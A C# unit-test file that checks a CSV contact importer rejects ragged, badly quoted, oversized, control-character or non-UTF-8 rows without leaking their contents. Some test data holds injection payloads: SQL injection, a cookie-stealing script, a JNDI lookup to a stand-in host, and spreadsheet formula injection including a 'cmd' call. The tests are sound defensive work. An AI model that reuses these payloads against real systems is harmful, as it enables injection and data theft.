using System.Text;
using ContactSync.Core.Sources;
using ContactSync.Core.Sources.Csv;
using ContactSync.Core.Tests.Mapping;

namespace ContactSync.Core.Tests.Sources;

/// <summary>
/// Files a careless export or a hostile uploader might produce. Each bad row must cost that row only,
/// with a reason that holds no data from the file.
/// </summary>
public sealed class CsvHostileInputTests : IDisposable
{
    private const string Secret = "SECRET-VALUE";
    private const string Good = "crm-ok,1,Director,Good Row,,,,,,,,,";

    private readonly TempCsvDirectory files = new();

    public void Dispose() => files.Dispose();

    [Fact]
    public async Task Rejects_a_row_with_more_fields_than_the_header_and_reads_on()
    {
        var source = files.Write($"{TempCsvDirectory.Header}\n{Good}\ncrm-2,1,Director,{Secret},,,,,,,,,,x,y\n{Good}\n");

        var entries = await TempCsvDirectory.ReadAllAsync(source);

        AssertGoodRowsAt(entries, 2, 4);
        AssertMalformed(entries, 3, "ragged row: 15 fields, header has 13");
    }

    [Fact]
    public async Task Rejects_a_row_with_fewer_fields_than_the_header_rather_than_guess_the_columns()
    {
        var source = files.Write($"{TempCsvDirectory.Header}\ncrm-2,1,Director,{Secret}\n{Good}\n");

        var entries = await TempCsvDirectory.ReadAllAsync(source);

        AssertMalformed(entries, 2, "ragged row: 4 fields, header has 13");
        AssertGoodRowsAt(entries, 3);
    }

    [Fact]
    public async Task Rejects_only_the_line_of_a_quote_left_open_and_reads_every_row_after_it()
    {
        var rows = new StringBuilder(TempCsvDirectory.Header).Append('\n').Append(Good).Append('\n');
        rows.Append($"crm-2,1,Director,\"{Secret},,,,,,,,,\n");
        for (var i = 0; i < 10_000; i++)
        {
            rows.Append(Good).Append('\n');
        }

        var entries = await TempCsvDirectory.ReadAllAsync(files.Write(rows.ToString()));

        AssertMalformed(entries, 3, "malformed CSV: a quoted field is not closed on its line");
        Assert.Equal(10_001, entries.OfType<SourceContact>().Count());
        Assert.Equal(10_003, entries[^1].LineNumber);
    }

    [Fact]
    public async Task Rejects_both_halves_of_a_quoted_field_split_across_lines()
    {
        var source = files.Write($"{TempCsvDirectory.Header}\ncrm-2,1,Director,Jane,,,\"1 High St\n{Secret} Town\",,,,,,\n{Good}\n");

        var entries = await TempCsvDirectory.ReadAllAsync(source);

        Assert.IsType<MalformedEntry>(entries[0]);
        Assert.IsType<MalformedEntry>(entries[1]);
        AssertGoodRowsAt(entries, 4);
        AssertNoSecretIn(entries);
    }

    [Theory]
    [InlineData($"crm-2,1,Director,Jane \"{Secret}\" Doe,,,,,,,,,", "malformed CSV: a quote inside an unquoted field")]
    [InlineData($"crm-2,1,Director,\"Jane\" {Secret},,,,,,,,,", "malformed CSV: text after a closing quote")]
    public async Task Rejects_a_row_with_broken_quoting(string row, string reason)
    {
        var entries = await TempCsvDirectory.ReadAllAsync(files.Write($"{TempCsvDirectory.Header}\n{row}\n{Good}\n"));

        AssertMalformed(entries, 2, reason);
        AssertGoodRowsAt(entries, 3);
    }

    [Fact]
    public async Task Rejects_a_100_KB_field_by_its_column_and_reads_on()
    {
        var huge = Secret + new string('x', 100 * 1024);
        var source = files.Write($"{TempCsvDirectory.Header}\n{Good}\ncrm-2,1,Director,Jane,,,,,,,,,{huge}\n{Good}\n");

        var entries = await TempCsvDirectory.ReadAllAsync(source);

        AssertGoodRowsAt(entries, 2, 4);
        AssertMalformed(entries, 3, "notes: longer than 4096 characters");
    }

    [Fact]
    public async Task Accepts_a_field_of_exactly_the_maximum_length_in_multibyte_characters()
    {
        var longest = new string('é', 4096);
        var source = files.Write($"{TempCsvDirectory.Header}\ncrm-2,1,Director,Jane,,,,,,,,,{longest}\n");

        var contact = Assert.IsType<SourceContact>(Assert.Single(await TempCsvDirectory.ReadAllAsync(source)));

        Assert.Equal(longest, contact.Notes);
    }

    [Theory]
    [InlineData("\n")]
    [InlineData("\r\n")]
    public async Task Rejects_a_row_longer_than_the_row_limit_without_buffering_it_and_reads_on(string newline)
    {
        var options = new CsvContactSourceOptions { MaxRowBytes = 64 * 1024 };
        var giant = Secret + new string('x', 3 * 1024 * 1024);
        var text = string.Join(newline, TempCsvDirectory.Header, Good, "", $"crm-2,1,Director,Jane,,,,,,,,,{giant}", Good, "", Good) + newline;

        var entries = await TempCsvDirectory.ReadAllAsync(files.Write(text, options));

        AssertMalformed(entries, 4, "row longer than 65536 bytes");
        AssertGoodRowsAt(entries, 2, 5, 7);
    }

    [Fact]
    public async Task Rejects_a_quote_left_open_before_a_giant_line_and_still_reads_on()
    {
        var options = new CsvContactSourceOptions { MaxRowBytes = 4096 };
        var text = $"{TempCsvDirectory.Header}\ncrm-1,1,Director,\"{new string('y', 50_000)}\ncrm-2,1,Director,{new string('z', 50_000)}\n{Good}\n";

        var entries = await TempCsvDirectory.ReadAllAsync(files.Write(text, options));

        Assert.Equal([2L, 3L, 4L], entries.Select(e => e.LineNumber));
        Assert.IsType<MalformedEntry>(entries[0]);
        AssertMalformed(entries, 3, "row longer than 4096 bytes");
        AssertGoodRowsAt(entries, 4);
    }

    [Fact]
    public async Task Ends_cleanly_when_the_last_line_is_too_long()
    {
        var options = new CsvContactSourceOptions { MaxRowBytes = 1024 };
        var text = $"{TempCsvDirectory.Header}\n{Good}\ncrm-2,1,Director,{new string('z', 100_000)}";

        var entries = await TempCsvDirectory.ReadAllAsync(files.Write(text, options));

        AssertGoodRowsAt(entries, 2);
        AssertMalformed(entries, 3, "row longer than 1024 bytes");
        Assert.Equal(2, entries.Count);
    }

    [Theory]
    [InlineData("\0")]
    [InlineData("\u0001")]
    [InlineData("\u001B")]
    [InlineData("\u007F")]
    [InlineData("\u0085")]
    public async Task Rejects_a_row_with_a_control_character_inside_a_field(string control)
    {
        var source = files.Write($"{TempCsvDirectory.Header}\ncrm-2,1,Director,Jane{control}{Secret},,,,,,,,,\n{Good}\n");

        var entries = await TempCsvDirectory.ReadAllAsync(source);

        AssertMalformed(entries, 2, "full_name: contains a control character");
        AssertGoodRowsAt(entries, 3);
    }

    [Fact]
    public async Task Keeps_a_tab_inside_a_field()
    {
        var source = files.Write($"{TempCsvDirectory.Header}\ncrm-2,1,Director,Jane,,,,,,,,,a\tb\n");

        var contact = Assert.IsType<SourceContact>(Assert.Single(await TempCsvDirectory.ReadAllAsync(source)));

        Assert.Equal("a\tb", contact.Notes);
    }

    [Fact]
    public async Task Rejects_a_row_with_Latin1_bytes_as_not_UTF8_and_reads_on()
    {
        var bytes = Encoding.UTF8.GetBytes($"{TempCsvDirectory.Header}\ncrm-2,1,Director,")
            .Concat(Encoding.Latin1.GetBytes("Zoë Ångström"))
            .Concat(Encoding.UTF8.GetBytes(",,,,,,,,,\n" + Good + "\n"))
            .ToArray();

        var entries = await TempCsvDirectory.ReadAllAsync(files.WriteBytes(bytes));

        AssertMalformed(entries, 2, "full_name: not valid UTF-8");
        AssertGoodRowsAt(entries, 3);
    }

    [Fact]
    public async Task Lists_every_unreadable_column_of_a_row_in_one_reason()
    {
        var bytes = Encoding.UTF8.GetBytes($"{TempCsvDirectory.Header}\ncrm-2,1,Director,")
            .Concat((byte[])[0xFF, (byte)','])
            .Concat(Encoding.UTF8.GetBytes($"a\0b,,,,,,,,{new string('n', 5000)}\n"))
            .ToArray();

        var entries = await TempCsvDirectory.ReadAllAsync(files.WriteBytes(bytes));

        AssertMalformed(entries, 2, "full_name: not valid UTF-8; email: contains a control character; notes: longer than 4096 characters");
    }

    [Theory]
    [InlineData("utf-16")]
    [InlineData("utf-16BE")]
    [InlineData("utf-32")]
    public async Task Refuses_a_file_with_a_UTF16_or_UTF32_byte_order_mark(string encodingName)
    {
        var encoding = Encoding.GetEncoding(encodingName);
        var bytes = encoding.GetPreamble().Concat(encoding.GetBytes($"{TempCsvDirectory.Header}\n{Good}\n")).ToArray();

        var e = await Assert.ThrowsAsync<SourceUnavailableException>(() => TempCsvDirectory.ReadAllAsync(files.WriteBytes(bytes)));

        Assert.Contains("is not UTF-8", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Refuses_a_UTF16_file_without_a_byte_order_mark()
    {
        var bytes = Encoding.Unicode.GetBytes($"{TempCsvDirectory.Header}\n{Good}\n");

        var e = await Assert.ThrowsAsync<SourceUnavailableException>(() => TempCsvDirectory.ReadAllAsync(files.WriteBytes(bytes)));

        Assert.Contains("is not UTF-8", e.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Robert'); DROP TABLE contract_contacts;--")]
    [InlineData("<script>alert(document.cookie)</script>")]
    [InlineData("1' OR '1'='1")]
    [InlineData("{{7*7}} ${jndi:ldap://x.example/a}")]
    public async Task Carries_names_that_look_like_code_through_unchanged_because_they_are_data(string name)
    {
        var quoted = "\"" + name.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
        var source = files.Write($"{TempCsvDirectory.Header}\ncrm-2,1,Director,{quoted},,,,,,,,,{quoted}\n");

        var entry = Assert.Single(await TempCsvDirectory.ReadAllAsync(source));
        var payload = SampleContacts.Mapper().Map(entry).Mapped().Payload;

        Assert.Equal(name, payload.FullName);
        Assert.Equal(name, payload.Notes);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"\"http://evil.example\"\",\"\"click\"\")", "=HYPERLINK(\"http://evil.example\",\"click\")")]
    [InlineData("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0")]
    [InlineData("-1+1", "-1+1")]
    [InlineData("@SUM(1+1)", "@SUM(1+1)")]
    [InlineData("@UK PLC", "@UK PLC")]
    public async Task Keeps_a_name_that_begins_like_a_spreadsheet_formula_as_data(string quoted, string name)
    {
        // ContactSync writes through an API, not into a spreadsheet: a formula is neutralised where a file is written.
        var source = files.Write($"{TempCsvDirectory.Header}\ncrm-2,1,Director,\"{quoted}\",,,,,,,,,\n");

        var entry = Assert.Single(await TempCsvDirectory.ReadAllAsync(source));

        Assert.Equal(name, SampleContacts.Mapper().Map(entry).Mapped().Payload.FullName);
    }

    [Fact]
    public async Task Keeps_a_key_that_begins_with_a_dash_as_the_opaque_string_it_is()
    {
        var source = files.Write($"{TempCsvDirectory.Header}\n-Xk2mA9pQrs7tUv1wYz0AbCdEf,1,Director,Jane Doe,,,,,,,,,\n");

        var entry = Assert.Single(await TempCsvDirectory.ReadAllAsync(source));

        Assert.Equal("-Xk2mA9pQrs7tUv1wYz0AbCdEf", SampleContacts.Mapper().Map(entry).Mapped().SourceId);
    }

    [Fact]
    public async Task Yields_rejected_and_good_rows_in_line_order_across_a_large_file()
    {
        var rows = new StringBuilder(TempCsvDirectory.Header).Append('\n');
        for (var i = 0; i < 20_000; i++)
        {
            rows.Append(i % 7 == 3 ? $"crm-{i},1,Director,\"{Secret},,,,,,,,," : i % 11 == 5 ? "x,y" : Good).Append('\n');
        }

        var entries = await TempCsvDirectory.ReadAllAsync(files.Write(rows.ToString()));

        Assert.Equal(Enumerable.Range(2, 20_000).Select(i => (long)i), entries.Select(e => e.LineNumber));
        AssertNoSecretIn(entries);
    }

    private static void AssertGoodRowsAt(List<SourceEntry> entries, params long[] lines)
    {
        foreach (var line in lines)
        {
            var contact = Assert.IsType<SourceContact>(Assert.Single(entries, e => e.LineNumber == line));
            Assert.Equal("Good Row", contact.FullName);
        }
    }

    private static void AssertMalformed(List<SourceEntry> entries, long line, string reason)
    {
        var malformed = Assert.IsType<MalformedEntry>(Assert.Single(entries, e => e.LineNumber == line));
        Assert.Equal(reason, malformed.Reason);
        AssertNoSecretIn(entries);
    }

    private static void AssertNoSecretIn(List<SourceEntry> entries)
    {
        foreach (var malformed in entries.OfType<MalformedEntry>())
        {
            Assert.DoesNotContain(Secret, malformed.Reason, StringComparison.Ordinal);
            Assert.DoesNotContain("Jane", malformed.Reason, StringComparison.Ordinal);
        }
    }
}
